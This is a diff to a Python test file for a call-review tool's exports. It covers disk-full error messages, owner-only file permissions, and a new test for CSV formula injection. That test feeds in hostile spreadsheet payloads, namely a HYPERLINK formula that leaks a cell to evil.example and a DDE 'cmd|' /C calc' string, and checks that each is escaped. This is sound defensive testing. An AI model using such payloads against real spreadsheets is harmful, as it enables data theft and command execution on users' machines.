@@ -450,8 +450,8 @@ def test_an_export_never_leaves_a_half_written_file(library, settings, pushback_
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(export.os, "fsync", disk_full)  # fails after the new bytes were written
-    with pytest.raises(OSError):
-        export_calls(library, settings, [pushback_call], ["pdf"], target)
+    with pytest.raises(ReviewerError, match=r"^No space left on the disk of .* while writing review\.pdf;"):
+        export_calls(library, settings, [pushback_call], ["pdf"], target)  # one sentence, no traceback
     assert target.read_bytes() == b"%PDF old report"
     assert [p.name for p in out.iterdir()] == ["review.pdf"]
 
@@ -554,13 +554,15 @@ def test_writing_an_export_never_opens_up_the_umask_for_other_threads(tmp_path):
     old = os.umask(0o027)
     sys.setprofile(watch)
     try:
-        write_atomic(tmp_path / "new.csv", b"call_id\n1\n")
+        write_atomic(tmp_path / "new.csv", b"call_id\n1\n", private=False)
+        write_atomic(tmp_path / "mine.csv", b"call_id\n1\n")
         write_atomic(private, b"new")
     finally:
         sys.setprofile(None)
         os.umask(old)
     assert seen == {0o027}
     assert (tmp_path / "new.csv").stat().st_mode & 0o777 == 0o640
+    assert (tmp_path / "mine.csv").stat().st_mode & 0o777 == 0o600  # an export is owner-only by default
     assert private.stat().st_mode & 0o777 == 0o600 and private.read_bytes() == b"new"
 
 
@@ -578,3 +580,45 @@ def test_a_turn_longer_than_a_page_goes_on_over_pages(library, pushback_call, se
     pages = PdfReader(io.BytesIO(pdf_bytes(replace(report, turns=[long_turn, *report.turns[1:]])))).pages
     text = " ".join(page.extract_text() for page in pages)
     assert "word0 " in text and "word2999" in text and len(pages) > 4
+
+
+# -- CSV cells a spreadsheet would run (issue 27) ------------------------------------------------
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(library, settings, tmp_path):
+    from reviewer.actions.corrections import rename_speaker
+    from reviewer.actions.exports import ReportSource
+    from reviewer.report.clips import clip_excerpt, playlist_csv
+    from reviewer.report.tables import csv_cell
+
+    cells = ("-3", "+1.5", "-0.25", -4, 2.5, "=1+2", "@SUM(1)", "\t=1", "-x", "a=b")
+    assert [csv_cell(v) for v in cells] == [
+        "-3",
+        "+1.5",
+        "-0.25",
+        -4,
+        2.5,
+        "'=1+2",
+        "'@SUM(1)",
+        "'\t=1",
+        "'-x",
+        "a=b",
+    ]
+    call_id = _sensitive_call(library, settings, tmp_path)
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    library.add_comment(call_id, start=1.0, text=hyperlink, author="@SUM(1+1)*cmd|' /C calc'!A0")
+    rename_speaker(library, call_id, "S1", name="=1+2", settings=settings)
+    export_calls(library, settings, [call_id], ["csv", "summary"], tmp_path / "out", redact=False)
+    cells = []
+    for name in ("sensitive.csv", "summary.csv"):
+        rows = list(csv.reader(io.StringIO((tmp_path / "out" / name).read_text(encoding="utf-8-sig"))))
+        cells += [c for row in rows for c in row]
+    assert "'" + hyperlink in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")], cells
+    assert not [c for c in cells if c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c)], cells
+    assert any(c.startswith("'=1+2") for c in cells)  # the agent's name, wherever it is listed
+    clip = {"id": 1, "call_id": call_id, "call_name": "sensitive.wav", "title": "=cmd()", "note": "+note",
+            "start": 0.5, "end": 4.0, "start_ms": 500, "end_ms": 4000}  # fmt: skip
+    x = clip_excerpt(ReportSource(library), settings, clip, redact=False)
+    rows = list(csv.reader(io.StringIO(playlist_csv([("01 cmd.mp3", x)]).decode("utf-8-sig"))))
+    assert rows[1][2:3] == ["'=cmd()"] and rows[1][7] == "'+note" and rows[1][8][:1] not in "=+-@"
